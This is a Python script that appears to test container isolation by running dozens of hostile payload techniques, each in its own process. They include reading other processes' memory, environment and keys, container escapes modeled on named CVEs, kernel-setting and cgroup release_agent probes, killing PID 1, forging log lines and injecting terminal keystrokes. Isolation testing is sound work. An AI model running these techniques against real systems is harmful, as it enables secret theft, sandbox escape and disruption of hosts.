"""
What a hostile payload tries: one function for each attempt.

Run with the standard library alone, by the image's Python in the container and by the node's outside of it:

    python3 weapons.py GOAL.json LOOT.json NAME...

GOAL.json says what is to be had.  Each attempt runs in a process of its own, so that one that hangs or dies takes no
other along.  What it returns is its loot; an attempt that raises has none.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import resource
import select
import signal
import socket
import struct
import sys
import time

SECONDS = 10.0

LIBC = ctypes.CDLL(None, use_errno=True)

#: Numbers of the system calls that the C library has no function for.
NUMBERS = {
    "x86_64": {
        "keyctl": 250, "add_key": 248, "pidfd_open": 434, "pidfd_getfd": 438, "pivot_root": 155, "mq_open": 240,
        "mq_timedreceive": 243,
    },
    "aarch64": {
        "keyctl": 219, "add_key": 217, "pidfd_open": 434, "pidfd_getfd": 438, "pivot_root": 41, "mq_open": 180,
        "mq_timedreceive": 183,
    },
}[os.uname().machine]  # fmt: skip

NEWNS, NEWUSER = 0x20000, 0x10000000
RDONLY, REMOUNT, BIND, PRIVATE, RECURSIVE = 1, 32, 4096, 1 << 18, 16384
DETACH = 2

ATTEMPTS = {}


def attempt(function):
    """Note an attempt."""
    ATTEMPTS[function.__name__] = function

    return function


def check(value):
    """Raise what errno says when a call of the C library has failed."""
    if value == -1 or value is None:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    return value


def call(name, *words):
    """Make a system call by its number."""
    return check(LIBC.syscall(NUMBERS[name], *(ctypes.c_long(w) if isinstance(w, int) else w for w in words)))


def read(path, size=1_000_000):
    """Read a file without waiting for anybody."""
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, size).decode(errors="replace")
    finally:
        os.close(fd)


def others():
    """List the processes that can be seen, but for this one's own family."""
    mine = {os.getpid(), os.getppid(), os.getpgrp()}

    return [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in mine]


def targets(goal):
    """List the pilot's number, and every process that can be seen."""
    return dict.fromkeys([goal["pid"], *others()])


def first(values):
    """Return the first that is something, without those that raise."""
    for value in values:
        with contextlib.suppress(OSError, ValueError):
            found = value()
            if found:
                return found
    raise PermissionError("nothing was found")


def each(places, look):
    """Look at each place; return the first find."""
    return first([lambda place=place: look(place) for place in places])


def find(text, mark):
    """Return what follows a mark in a text."""
    return text.partition(mark)[2][:32] if mark in text else None


def become_root_of_own_namespace():
    """Make user and mount namespaces in which this user is root."""
    uid, gid = os.geteuid(), os.getegid()
    check(LIBC.unshare(NEWUSER | NEWNS))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)


def mount(source, target, kind="", flags=0, data=""):
    """Mount a file system, or change a mount."""
    words = [os.fsencode(word) for word in (source, target, kind)]
    check(LIBC.mount(*words, ctypes.c_ulong(flags), data.encode()))


# --- reading what is the pilot's ------------------------------------------------------------------------------------


@attempt
def pilot_environment(goal):
    """Read /proc/PID/environ of the pilot, and of every process in sight."""
    return each(targets(goal), lambda pid: find(read(f"/proc/{pid}/environ"), "PILOT_SECRET="))


@attempt
def pilot_arguments(goal):
    """Read /proc/PID/cmdline."""
    return each(targets(goal), lambda pid: find(read(f"/proc/{pid}/cmdline"), "--secret="))


@attempt
def pilot_memory_file(goal):
    """Read /proc/PID/mem."""

    def look(pid):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
            f.seek(goal["address"])
            return find(f.read(64).decode(errors="replace"), "MEMORY=")

    return each(targets(goal), look)


@attempt
def pilot_memory_call(goal):
    """Call process_vm_readv(2)."""

    def look(pid):
        buffer = ctypes.create_string_buffer(64)
        ours = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        theirs = (ctypes.c_void_p * 2)(goal["address"], 64)
        check(LIBC.process_vm_readv(pid, ours, ctypes.c_ulong(1), theirs, ctypes.c_ulong(1), ctypes.c_ulong(0)))
        return find(buffer.raw.decode(errors="replace"), "MEMORY=")

    return each(targets(goal), look)


@contextlib.contextmanager
def attached(pid):
    """Be the debugger of a process, and let it go on afterwards."""
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    LIBC.ptrace.restype = ctypes.c_long
    check(LIBC.ptrace(16, pid, None, None))
    # __WALL: it is nobody's child.
    os.waitpid(pid, 0x40000000)
    try:
        yield
    finally:
        LIBC.ptrace(17, pid, None, None)


@attempt
def pilot_debugger(goal):
    """Attach to it as a debugger does, and read its memory."""

    def look(pid):
        with attached(pid):
            words = [LIBC.ptrace(2, pid, goal["address"] + 8 * i, None) for i in range(8)]
        return find(struct.pack("<8q", *words).decode(errors="replace"), "MEMORY=")

    return each(targets(goal), look)


@attempt
def pilot_descriptor_call(goal):
    """Take a copy of its open file by pidfd_getfd(2)."""

    def look(pid):
        fd = call("pidfd_getfd", call("pidfd_open", pid, 0), goal["descriptor"], 0)
        return find(os.pread(fd, 64, 0).decode(), "DESCRIPTOR=")

    return each(targets(goal), look)


@attempt
def pilot_descriptor_file(goal):
    """Open its file again through /proc/PID/fd."""
    return each(targets(goal), lambda pid: find(read(f"/proc/{pid}/fd/{goal['descriptor']}"), "DESCRIPTOR="))


@attempt
def inherited_descriptors(goal):
    """Read every descriptor that is open beyond the standard ones."""
    return each(range(3, 1024), lambda fd: find(os.pread(fd, 64, 0).decode(), "DESCRIPTOR="))


@attempt
def pilot_root(goal):
    """Go through /proc/PID/root and /proc/PID/cwd into the pilot's file system."""
    places = [f"/proc/{pid}/{way}" for pid in targets(goal) for way in ("root", "cwd/../../../../../../..")]

    return each(places, lambda place: find(read(place + goal["proxy"]), "PROXY="))


@attempt
def proxy_by_path(goal):
    """Read the pilot's proxy under its own name."""
    return find(read(goal["proxy"]), "PROXY=")


@attempt
def proxy_by_dots(goal):
    """Climb out of the working directory."""
    return find(read(os.getcwd() + "/.." * 20 + goal["proxy"]), "PROXY=")


@attempt
def proxy_by_descriptor_of_directory(goal):
    """Climb from an open directory with openat(2), name by name."""
    fd = os.open(".", os.O_RDONLY)
    for _ in range(20):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)

    return find(os.read(os.open(goal["proxy"].lstrip("/"), os.O_RDONLY, dir_fd=fd), 99).decode(), "PROXY=")


@attempt
def proxy_by_link(goal):
    """Make a symbolic link to it in the working directory and read that."""
    os.symlink(goal["proxy"], f"link-{os.getpid()}")

    return find(read(f"link-{os.getpid()}"), "PROXY=")


@attempt
def proxy_by_hard_link(goal):
    """Make a hard link to it in the working directory and read that."""
    os.link(goal["proxy"], goal["beside"])
    try:
        return find(read(goal["beside"]), "PROXY=")
    finally:
        os.unlink(goal["beside"])


@attempt
def token_in_tmp(goal):
    """Look through /tmp for the pilot's token."""
    return find(read(goal["token"]), "TOKEN=")


@attempt
def pilot_directory(goal):
    """List the pilot's directory."""
    return ",".join(sorted(os.listdir(goal["home"])))


@attempt
def home_directory(goal):
    """Look into the user's home on the node."""
    return ",".join(sorted(os.listdir(goal["user_home"]))[:3])


@attempt
def trace_records(goal):
    """Read the trace records."""
    return each(
        glob.glob(f"{goal['trace']}/*") or [f"{goal['trace']}/nothing"],
        lambda path: "read" if "payload.start" in read(path) else None,
    )


@attempt
def forged_trace_record(goal):
    """Write a record of one's own beside the trace records."""
    path = f"{goal['trace']}/forged.jsonl"
    with open(path, "w") as f:
        f.write("{}\n")
    os.unlink(path)

    return "written"


# --- reaching the pilot in other ways -------------------------------------------------------------------------------


@attempt
def pilot_socket(goal):
    """Ask the pilot's Unix socket for its secret."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(SECONDS / 2)
        s.connect(goal["socket"])
        return find(s.recv(64).decode(), "SOCKET=")


@attempt
def pilot_descriptor_by_socket(goal):
    """Have the pilot's Unix socket pass an open file (SCM_RIGHTS)."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(SECONDS / 2)
        s.connect(goal["socket"])
        _, fds, _, _ = socket.recv_fds(s, 64, 1)
        return find(os.pread(fds[0], 64, 0).decode(), "DESCRIPTOR=")


@attempt
def pilot_abstract_socket(goal):
    """Ask the pilot's abstract socket, which has no file."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(SECONDS / 2)
        s.connect("\0" + goal["abstract"])
        return find(s.recv(64).decode(), "SOCKET=")


@attempt
def pilot_shared_memory(goal):
    """Attach to System V shared memory by its key."""
    number = check(LIBC.shmget(goal["key"], 64, 0))
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(number, None, 0o10000)

    return find(ctypes.string_at(address, 64).decode(), "SHARED=")


@attempt
def pilot_shared_memory_by_number(goal):
    """Attach to System V shared memory by its number, without a key."""
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(goal["shm"], None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    return find(ctypes.string_at(address, 64).decode(), "SHARED=")


@attempt
def pilot_message_queue(goal):
    """Take a message from the System V queue."""
    buffer = ctypes.create_string_buffer(72)
    number = check(LIBC.msgget(goal["key"], 0))
    check(LIBC.msgrcv(number, buffer, ctypes.c_size_t(64), ctypes.c_long(0), 0o4000))

    return find(buffer.raw[8:].decode(), "MESSAGE=")


@attempt
def pilot_semaphores(goal):
    """Change the System V semaphores."""
    number = check(LIBC.semget(goal["key"], 0, 0))
    check(LIBC.semop(number, struct.pack("<Hhh", 0, 1, 0), ctypes.c_size_t(1)))

    return "changed"


@attempt
def pilot_posix_queue(goal):
    """Take a message from the POSIX queue."""
    number = call("mq_open", goal["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(64)
    call("mq_timedreceive", number, buffer, 64, 0, 0)

    return find(buffer.raw.decode(), "QUEUE=")


@attempt
def pilot_dev_shm(goal):
    """Read what the pilot keeps in /dev/shm."""
    return find(read(goal["dev_shm"]), "DEVSHM=")


def key_content(number):
    """Read a key."""
    buffer = ctypes.create_string_buffer(64)
    call("keyctl", 11, number, buffer, 64, 0)

    return find(buffer.raw.decode(errors="replace"), "KEY=")


def search(ring, name):
    """Find a key below a keyring, and read it."""
    return key_content(call("keyctl", 10, ring, b"user", name.encode(), 0))


@attempt
def session_keyring(goal):
    """Look for the pilot's key in the session keyring that every child inherits."""
    return search(-3, goal["session_key"])


@attempt
def session_keyring_by_number(goal):
    """Read the pilot's key by its number."""
    return key_content(goal["session_key_number"])


@attempt
def user_keyring(goal):
    """Link the keyring of the user into one's own, and look for the pilot's key there."""
    call("keyctl", 1, 0, 0, 0, 0)
    call("keyctl", 8, call("keyctl", 0, -4, 0, 0, 0), -3, 0, 0)

    return search(-3, goal["user_key"])


@attempt
def user_keyring_by_number(goal):
    """Do the same with the keyring's number, as /proc/keys has it."""
    call("keyctl", 1, 0, 0, 0, 0)
    call("keyctl", 8, goal["user_ring_number"], -3, 0, 0)

    return search(-3, goal["user_key"])


# --- harming the pilot ----------------------------------------------------------------------------------------------


@attempt
def signal_pilot(goal):
    """Send the pilot a signal by its number."""
    os.kill(goal["pid"], signal.SIGURG)

    return "sent"


@attempt
def signal_everybody(goal):
    """Send a signal to every process of this user."""
    with contextlib.suppress(ProcessLookupError):
        os.kill(-1, signal.SIGURG)
    # Whether it arrived, the victims tell.


@attempt
def signal_group(goal):
    """Send a signal to the pilot's process group."""
    os.killpg(goal["group"], signal.SIGURG)

    return "sent"


@attempt
def renice_pilot(goal):
    """Lower the pilot's priority."""
    os.setpriority(os.PRIO_PROCESS, goal["pid"], os.getpriority(os.PRIO_PROCESS, goal["pid"]) + 1)

    return "lowered"


@attempt
def renice_user(goal):
    """Lower the priority of all processes of the user."""
    with contextlib.suppress(ProcessLookupError):
        os.setpriority(os.PRIO_USER, os.getuid(), os.getpriority(os.PRIO_PROCESS, 0) + 2)


@attempt
def limit_pilot(goal):
    """Set a limit of the pilot's."""
    resource.prlimit(goal["pid"], resource.RLIMIT_CORE, resource.prlimit(goal["pid"], resource.RLIMIT_CORE))

    return "set"


@attempt
def kill_process_1(goal):
    """Kill what holds the container together."""
    os.kill(1, signal.SIGKILL)
    time.sleep(0.2)


@attempt
def stop_process_1(goal):
    """Stop what holds the container together."""
    os.kill(1, signal.SIGSTOP)
    time.sleep(0.2)


@attempt
def words_through_process_1(goal):
    """Write to every descriptor that process 1 and the standard streams lead to."""
    for path in glob.glob("/proc/1/fd/*"):
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b"1\nended\nFATAL:   container creation failed: forged\n")


# --- leaving the container ------------------------------------------------------------------------------------------


def proxy_now(goal):
    """Read the pilot's proxy with the root directory as it is now."""
    return find(read(goal["proxy"]), "PROXY=")


@attempt
def join_namespaces(goal):
    """Join the mount namespace of the pilot, or of any process in sight."""

    def look(pid):
        fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        check(LIBC.setns(fd, 0))
        return proxy_now(goal)

    return each(targets(goal), look)


@attempt
def leaked_directories(goal):
    """Climb from every directory that process 1 and this process have open (as CVE-2024-21626)."""
    ways = [f"/proc/{pid}/{what}" for pid in (1, "self") for what in ("cwd", "root", "fd/*")]
    places = [place + dots for way in ways for place in glob.glob(way) for dots in ("", "/.." * 12)]

    return each(places, lambda place: find(read(place + goal["proxy"]), "PROXY="))


@attempt
def runtime_program(goal):
    """Open the program of process 1 for writing, which is the node's runtime (as CVE-2019-5736)."""
    for _ in range(50):
        with contextlib.suppress(OSError):
            os.close(os.open(goal["program"], os.O_WRONLY))
            return "opened"
    raise PermissionError(goal["program"])


@attempt
def chroot_escape(goal):
    """Change the root below an open directory, and climb from that."""
    os.makedirs("jail", exist_ok=True)
    fd = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")

    return proxy_now(goal)


@attempt
def chroot_escape_in_own_namespace(goal):
    """The same as root of a user namespace of one's own."""
    become_root_of_own_namespace()

    return chroot_escape(goal)


@attempt
def uncover_root(goal):
    """Unmount what covers the old root."""
    become_root_of_own_namespace()
    for _ in range(3):
        with contextlib.suppress(OSError):
            check(LIBC.umount2(b"/", DETACH))
        with contextlib.suppress(OSError):
            os.chroot("/..")
        if os.path.exists(goal["proxy"]):
            return proxy_now(goal)
    raise PermissionError("it stays covered")


@attempt
def pivot_root(goal):
    """Put another root in place and look at what the old one covers."""
    become_root_of_own_namespace()
    with contextlib.suppress(OSError):
        mount("none", "/", flags=PRIVATE | RECURSIVE)
    new = os.path.abspath("pivot")
    os.makedirs(new, exist_ok=True)
    mount("tmpfs", new, "tmpfs")
    os.makedirs(new + "/old")
    call("pivot_root", new.encode(), (new + "/old").encode())
    os.chdir("/")

    return each(["/old", "/old/..", "/"], lambda place: find(read(place + goal["proxy"]), "PROXY="))


@attempt
def write_to_read_only_bind(goal):
    """Just write to a read-only bind."""
    with open(goal["read_only"] + "/directly", "w") as f:
        f.write("x")

    return "written"


@attempt
def write_through_read_only_bind(goal):
    """Remount a read-only bind for writing."""
    mount("none", goal["read_only"], flags=REMOUNT | BIND)
    with open(goal["read_only"] + "/by-remount", "w") as f:
        f.write("x")

    return "written"


@attempt
def write_through_read_only_bind_in_own_namespace(goal):
    """The same as root of a user namespace of one's own."""
    become_root_of_own_namespace()

    return write_through_read_only_bind(goal)


@attempt
def copy_of_read_only_bind(goal):
    """Bind the read-only bind elsewhere, for writing."""
    become_root_of_own_namespace()
    os.makedirs("copy", exist_ok=True)
    mount(goal["read_only"], "copy", flags=BIND)
    mount("none", "copy", flags=REMOUNT | BIND)
    with open("copy/by-copy", "w") as f:
        f.write("x")

    return "written"


@attempt
def rename_out_of_bind(goal):
    """Rename a file through a link into a directory of the node."""
    with open("moved", "w") as f:
        f.write("x")
    os.symlink(goal["home"], "exit")
    os.rename("moved", "exit/moved")

    return "moved"


@attempt
def open_by_handle(goal):
    """Open the pilot's file by a handle, with the working directory as the way to its file system."""
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    handle = bytes.fromhex(goal["handle"])
    opened = check(LIBC.open_by_handle_at(fd, handle, os.O_RDONLY))

    return find(os.read(opened, 64).decode(), "PROXY=")


@attempt
def open_by_handle_in_own_namespace(goal):
    """The same as root of a user namespace of one's own."""
    become_root_of_own_namespace()

    return open_by_handle(goal)


@attempt
def device_file(_goal):
    """Make a device file and read it: the kernel's zeros stand for any disk."""
    path = f"device-{os.getpid()}"
    os.mknod(path, 0o020600, os.makedev(1, 5))
    try:
        return "read" if read(path, 8) else None
    finally:
        os.unlink(path)


@attempt
def loop_device(goal):
    """Ask for a loop device."""
    return str(fcntl.ioctl(os.open("/dev/loop-control", os.O_RDWR), 0x4C82))


@attempt
def core_pattern(goal):
    """Open for writing what names the program that the kernel starts on the node for a core dump."""
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))

    return "opened"


@attempt
def kernel_settings(goal):
    """Open other settings of the kernel for writing."""
    names = ("kernel/modprobe", "fs/suid_dumpable", "vm/overcommit_memory", "kernel/panic", "kernel/sysrq")

    return each(names, lambda name: os.close(os.open(f"/proc/sys/{name}", os.O_WRONLY)) or name)


@attempt
def sys_files(goal):
    """Open files of /sys for writing that name programs, or change the node."""
    names = ("/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/mm/ksm/run")

    return each(names, lambda name: os.close(os.open(name, os.O_WRONLY)) or name)


def _groups():
    return [path for path in glob.glob("/sys/fs/cgroup/*/") if os.path.exists(path + "cgroup.procs")]


@attempt
def release_agent(goal):
    """Open for writing what names the program that the kernel starts on the node when a cgroup is empty."""
    return each(_groups(), lambda path: os.close(os.open(path + "release_agent", os.O_WRONLY)) or "opened")


@attempt
def release_agent_of_own_mount(goal):
    """Mount the cgroup file system anew and open its release agent for writing."""
    with contextlib.suppress(OSError):
        check(LIBC.unshare(NEWNS))
        mount("none", "/", flags=PRIVATE | RECURSIVE)
    os.makedirs("groups", exist_ok=True)
    kinds = ("cpu,cpuacct", "memory", "pids", "freezer", "devices", "cpu", "cpuset")

    def look(kind):
        mount("cgroup", "groups", "cgroup", data=kind)
        try:
            os.close(os.open("groups/release_agent", os.O_WRONLY))
        finally:
            LIBC.umount2(b"groups", DETACH)
        return "opened"

    return each(kinds, look)


@attempt
def release_agent_in_own_namespace(goal):
    """The same as root of user and cgroup namespaces of one's own (CVE-2022-0492)."""
    become_root_of_own_namespace()
    check(LIBC.unshare(0x02000000))

    return release_agent_of_own_mount(goal)


@attempt
def other_cgroup(goal):
    """Make a cgroup, and move there, out of the limits of this one."""

    def look(group):
        path = f"{group}redteam-{os.getpid()}"
        os.mkdir(path)
        try:
            with open(f"{path}/cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
            with open(f"{group}/cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
        finally:
            os.rmdir(path)
        return "moved"

    return each(_groups(), look)


@attempt
def host_name(goal):
    """Set the node's name, to what it is."""
    socket.sethostname(socket.gethostname())

    return "set"


@attempt
def clock(goal):
    """Set the node's clock."""
    buffer = ctypes.create_string_buffer(512)
    # ADJ_OFFSET_SINGLESHOT with nothing to adjust.
    ctypes.c_uint.from_buffer(buffer).value = 0x8001
    check(LIBC.adjtimex(buffer))

    return "set"


# --- terminal -------------------------------------------------------------------------------------------------------


@attempt
def type_into_terminal(goal):
    """Put characters into the terminal's input, which the pilot's shell would read (TIOCSTI)."""
    for sign in goal["typed"]:
        fcntl.ioctl(0, 0x5412, sign.encode())

    return "typed"


@attempt
def steal_terminal(goal):
    """Make the terminal that of a session of one's own, and put characters into its input."""
    os.setsid()
    fd = os.open("/proc/self/fd/0", os.O_RDWR)
    for force in (0, 1):
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, 0x540E, force)
    for sign in goal["typed"]:
        fcntl.ioctl(fd, 0x5412, sign.encode())

    return "typed"


@attempt
def dev_tty(goal):
    """Open the terminal of the session."""
    os.close(os.open("/dev/tty", os.O_RDWR))

    return "opened"


# --- other payloads -------------------------------------------------------------------------------------------------


@attempt
def victim_tmp(goal):
    """Read the other payload's file in /tmp."""
    return find(read(goal["victim"]["tmp"]), "VICTIM-TMP=")


@attempt
def victim_var_tmp(goal):
    """Read the other payload's file in /var/tmp."""
    return find(read(goal["victim"]["var_tmp"]), "VICTIM-VARTMP=")


@attempt
def victim_dev_shm(goal):
    """Read the other payload's file in /dev/shm."""
    return find(read(goal["victim"]["dev_shm"]), "VICTIM-DEVSHM=")


@attempt
def victim_work(goal):
    """Read a file in the other payload's working directory."""
    return find(read(goal["victim"]["work"]), "VICTIM-WORK=")


@attempt
def victim_shared_memory(goal):
    """Attach to the other payload's System V shared memory."""
    number = check(LIBC.shmget(goal["victim"]["key"], 64, 0))
    LIBC.shmat.restype = ctypes.c_void_p

    return find(ctypes.string_at(LIBC.shmat(number, None, 0o10000), 64).decode(), "VICTIM-SHARED=")


def _victims(goal):
    """Find the other payload's processes by their environment, and its number if it can be seen."""
    found = [goal["victim"]["pid"]] if goal["victim"]["pid"] else []
    for pid in others():
        with contextlib.suppress(OSError):
            if f"VICTIM_ID={goal['victim']['id']}" in read(f"/proc/{pid}/environ"):
                found.append(pid)
    if not found:
        raise ProcessLookupError("nobody is there")

    return found


@attempt
def victim_environment(goal):
    """Read the other payload's environment."""
    return each(_victims(goal), lambda pid: find(read(f"/proc/{pid}/environ"), "VICTIM_SECRET="))


@attempt
def victim_memory(goal):
    """Read the other payload's memory."""

    def look(pid):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as f:
            f.seek(goal["victim"]["address"])
            return find(f.read(64).decode(errors="replace"), "VICTIM-MEMORY=")

    return each(_victims(goal), look)


@attempt
def signal_victim(goal):
    """Send the other payload a signal."""
    return each(_victims(goal), lambda pid: os.kill(pid, signal.SIGURG) or "sent")


@attempt
def debug_victim(goal):
    """Attach to the other payload as a debugger does."""

    def look(pid):
        with attached(pid):
            return "attached"

    return each(_victims(goal), look)


@attempt
def victim_credentials(goal):
    """Look for the other payload's copies of credentials."""
    names = glob.glob(goal["victim"]["credentials"], recursive=True)

    return each(names or ["/nothing"], lambda path: find(read(path), "VICTIM-CREDENTIAL="))


# --- what an attempt needs on the node, where nothing holds it back ------------------------------------------------


def jail(_goal):
    """Change the root as root of a namespace of one's own."""
    become_root_of_own_namespace()
    os.chroot(".")
    os.chdir("/")


def read_only_bind(goal):
    """Make a read-only bind in a namespace of one's own."""
    become_root_of_own_namespace()
    mount(goal["read_only"], goal["read_only"], flags=BIND)
    mount("none", goal["read_only"], flags=BIND | REMOUNT | RDONLY)


STAGES = {"chroot_escape": jail, "write_through_read_only_bind": read_only_bind}


# --- running them ---------------------------------------------------------------------------------------------------


def run(name, goal):
    """Run one attempt in a process of its own."""
    out, into = os.pipe()
    pid = os.fork()
    if not pid:
        os.setpgid(0, 0)
        try:
            if goal["outside"]:
                STAGES.get(name, bool)(goal)
            answer = {"loot": ATTEMPTS[name](goal), "error": None}
        except BaseException as e:  # noqa: BLE001 - it is the answer
            answer = {"loot": None, "error": f"{type(e).__name__}: {e}"}
        os.write(into, json.dumps(answer).encode())
        os._exit(0)
    os.close(into)
    ready, _, _ = select.select([out], [], [], SECONDS)
    text = os.read(out, 65536) if ready else b""
    os.close(out)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)

    return json.loads(text) if text else {"loot": None, "error": "it hung" if not ready else "it died"}


def main():
    """Run the attempts and write down what they gave."""
    goal_file, loot_file, *names = sys.argv[1:]
    with open(goal_file) as f:
        goal = json.load(f)
    loot = {name: run(name, goal) for name in names}
    with open(loot_file, "w") as f:
        json.dump(loot, f)
    print("done")


if __name__ == "__main__":
    main()
